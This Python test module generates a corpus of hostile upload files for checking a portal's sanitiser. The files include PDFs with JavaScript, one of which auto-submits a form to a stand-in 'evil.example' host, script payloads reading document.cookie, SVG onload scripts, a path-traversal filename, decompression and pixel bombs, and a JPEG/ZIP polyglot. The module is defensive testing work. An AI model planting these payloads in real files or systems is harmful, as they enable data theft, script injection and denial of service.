"""The hostile and metadata-laden corpus, generated on the fly (nothing binary is checked in).

Each entry is a file a person (or an attacker) might upload, with what the portal must do:
`clean` (accepted; the served copy carries none of the `markers`) or the refusal code.
"""

from __future__ import annotations

import contextlib
import io
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from tests.filecheck import makers

PERSON = "山田 太郎"
TRAVERSAL_NAME = "../" * 190 + "..\\..\\報告書.pdf"  # 600 characters with the name


@dataclass(frozen=True)
class Sample:
    key: str
    filename: str
    make: Callable[[Path], bytes]
    kind: str  # "photo", "pdf" or "other": which upload slots would take it
    refused: str | None = None  # the RejectCode, or None when it must be accepted and cleaned
    markers: tuple[bytes, ...] = ()  # must not appear in any served copy


def _read(path: Path) -> bytes:
    return path.read_bytes()


def gps_jpeg(tmp: Path) -> bytes:
    return _read(makers.jpeg_with_gps(tmp / "gps.jpg", size=(640, 480), orientation=6))


def png_text(tmp: Path) -> bytes:
    return _read(makers.png_with_text(tmp / "t.png"))


def pdf_everything(tmp: Path) -> bytes:
    """Info, XMP and しおり naming a person, JavaScript, OpenAction, an embedded file."""
    return _read(makers.pdf_with_everything(tmp / "all.pdf"))


def _pdf_with(tmp: Path, name: str, extra: Callable[[PdfWriter], None]) -> bytes:
    writer = PdfWriter()
    writer.append(str(makers.simple_pdf(tmp / f"{name}-base.pdf", pages=1)))
    extra(writer)
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def pdf_javascript(tmp: Path) -> bytes:
    def add(writer: PdfWriter) -> None:
        doc_js = DictionaryObject(
            {
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject("app.alert('hello');"),
            }
        )
        tree = DictionaryObject(
            {NameObject("/Names"): ArrayObject([TextStringObject("a"), writer._add_object(doc_js)])}
        )
        writer._root_object[NameObject("/Names")] = DictionaryObject(
            {NameObject("/JavaScript"): writer._add_object(tree)}
        )
        action = DictionaryObject(
            {
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject("this.submitForm('https://evil.example/');"),
            }
        )
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)

    return _pdf_with(tmp, "js", add)


def encrypted(tmp: Path) -> bytes:
    return _read(makers.encrypted_pdf(tmp / "enc.pdf"))


def truncated_jpeg(tmp: Path) -> bytes:
    data = gps_jpeg(tmp)
    return data[: len(data) // 2]


def inflate_bomb(tmp: Path) -> bytes:
    return _read(makers.flate_bomb_pdf(tmp / "bomb.pdf", inflated_mb=120))


def pixel_bomb(tmp: Path) -> bytes:
    return _read(makers.png_bomb(tmp / "pb.png"))


def jpeg_zip_polyglot(tmp: Path) -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", (64, 48), (200, 10, 10)).save(buf, "JPEG")
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("payload.html", "<script>alert(1)</script>")
    return buf.getvalue() + archive.getvalue()


def html_page(tmp: Path) -> bytes:
    return b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"


def svg_image(tmp: Path) -> bytes:
    return (
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
        b"<script>alert(2)</script></svg>"
    )


def elf_binary(tmp: Path) -> bytes:
    return b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 200


def unfiltered_pdf(tmp: Path) -> bytes:
    """An ordinary PDF whose content stream has no /Filter, with an /OpenAction JavaScript
    (the JavaScript check used never to run on such files)."""
    content = b"BT /F1 12 Tf 72 720 Td (plain content) Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>",
        f"<< /Length {len(content)} >>\nstream\n".encode() + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
        b"<< /Author (Yamada Taro) /Title (Internal memo) >>",
    ]
    return makers.raw_pdf(objects, info=7)


def plain_pdf(tmp: Path) -> bytes:
    return _read(makers.simple_pdf(tmp / "plain.pdf", pages=1, with_properties=False))


PDF_MARKERS = (
    b"/JavaScript",
    b"/JS",
    b"/OpenAction",
    b"/Outlines",
    b"/EmbeddedFile",
    b"/Author",
    b"/Metadata",
    b"Yamada",
)
PHOTO_MARKERS = (b"Exif", b"http://ns.adobe.com/xap/1.0/", b"tEXt", b"iTXt", b"zTXt")

SAMPLES: tuple[Sample, ...] = (
    Sample("gps_jpeg", "IMG_0001.jpg", gps_jpeg, "photo", markers=PHOTO_MARKERS),
    Sample("png_text", "scan.png", png_text, "photo", markers=PHOTO_MARKERS),
    Sample("pdf_info_xmp_outline", "報告書.pdf", pdf_everything, "pdf", markers=PDF_MARKERS),
    Sample("pdf_javascript", "申込書.pdf", pdf_javascript, "pdf", markers=PDF_MARKERS),
    Sample("unfiltered_pdf", "memo.pdf", unfiltered_pdf, "pdf", markers=PDF_MARKERS),
    Sample("traversal_name", TRAVERSAL_NAME, plain_pdf, "pdf", markers=PDF_MARKERS),
    Sample("encrypted_pdf", "secret.pdf", encrypted, "pdf", refused="encrypted"),
    Sample("truncated_jpeg", "cut.jpg", truncated_jpeg, "photo", refused="truncated"),
    Sample("inflate_bomb", "bomb.pdf", inflate_bomb, "pdf", refused="resource_limit"),
    Sample("pixel_bomb", "huge.png", pixel_bomb, "photo", refused="image_too_many_pixels"),
    Sample("jpeg_zip_polyglot", "photo.jpg", jpeg_zip_polyglot, "photo", refused="polyglot"),
    Sample("html_as_pdf", "invoice.pdf", html_page, "pdf", refused="active_content"),
    Sample("svg_as_jpg", "logo.jpg", svg_image, "photo", refused="active_content"),
    Sample("elf_as_pdf", "report.pdf", elf_binary, "pdf", refused="active_content"),
)


def no_metadata_left(sample: Sample, served: bytes) -> list[bytes]:
    """The markers of `sample` still present in `served` (inflating Flate streams of PDFs)."""
    haystack = served
    if served.startswith(b"%PDF"):
        haystack += b"".join(_inflated_streams(served))
    return [m for m in sample.markers if m in haystack] + (
        [PERSON.encode()] if PERSON.encode() in haystack else []
    )


def _inflated_streams(pdf: bytes) -> list[bytes]:
    out = []
    pos = 0
    while (start := pdf.find(b"stream", pos)) >= 0:
        body = start + len(b"stream")
        body += 2 if pdf[body : body + 2] == b"\r\n" else 1
        end = pdf.find(b"endstream", body)
        if end < 0:
            break
        with contextlib.suppress(zlib.error):
            out.append(zlib.decompressobj().decompress(pdf[body:end], 10_000_000))
        pos = end
    return out


def leftovers(sample: Sample, served: bytes) -> list[str]:
    """Everything of `sample`'s hidden data still in the served bytes (empty when clean)."""
    found = [m.decode() for m in no_metadata_left(sample, served)]
    if served.startswith(b"%PDF"):
        from pypdf import PdfReader

        reader = PdfReader(io.BytesIO(served))
        info = reader.metadata or {}
        found += [f"info {k}" for k in ("/Author", "/Title", "/Subject", "/Keywords") if k in info]
        found += [
            f"catalog {k}"
            for k in ("/Outlines", "/Names", "/OpenAction", "/AA", "/Metadata")
            if k in reader.trailer["/Root"]
        ]
        if reader.outline:
            found.append("outline")
    else:
        with Image.open(io.BytesIO(served)) as im:
            if len(im.getexif()):
                found.append("exif")
            found += [
                f"info {k}"
                for k, v in im.info.items()
                if isinstance(v, (str, bytes))
                and k not in ("jfif", "jfif_version", "jfif_unit", "jfif_density")
            ]
    return found
